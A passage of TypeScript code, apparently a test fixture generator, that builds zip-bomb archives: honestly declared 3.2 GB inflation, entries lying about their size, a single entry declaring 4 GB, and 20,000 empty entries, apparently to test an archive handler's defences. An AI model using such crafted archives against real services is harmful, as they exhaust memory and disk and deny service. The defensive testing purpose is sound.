  const huge: ZipEntry[] = [agentEntry(), { name: 'bomb/tests/huge.golden.json', data: s.data, crc: s.crc, declaredSize: 0xffffffff }];
  const empty = new Uint8Array(0);
  const many: ZipEntry[] = [agentEntry(), ...Array.from({ length: 20_000 }, (_, i) => ({ name: `bomb/x/${i}`, data: empty, stored: true, crc: 0, declaredSize: 0 }))];
  return [
    { id: 'zip-bomb-declared', kind: 'zip-bomb', file: 'bomb-declared.zip', bytes: writeZip(honest), declaredBytes: N * s.size, inflatedBytes: N * s.size, what: `${N} golden files of 16 MB each, declared honestly (3.2 GB), ~3 MB zipped` },
    { id: 'zip-bomb-lying', kind: 'zip-bomb', file: 'bomb-lying.zip', bytes: writeZip(lying), declaredBytes: N * 100, inflatedBytes: N * s.size, what: `${N} golden files that declare 100 bytes each but inflate to 16 MB each (3.2 GB)` },
    { id: 'zip-bomb-4gb-entry', kind: 'zip-bomb', file: 'bomb-4gb.zip', bytes: writeZip(huge), declaredBytes: 0xffffffff, inflatedBytes: s.size, what: 'one entry that declares 4 GB (its buffer would be allocated up front)' },
    { id: 'zip-many-entries', kind: 'zip-bomb', file: 'bomb-entries.zip', bytes: writeZip(many), declaredBytes: 0, inflatedBytes: 0, what: '20,000 empty entries' },
  ];
}
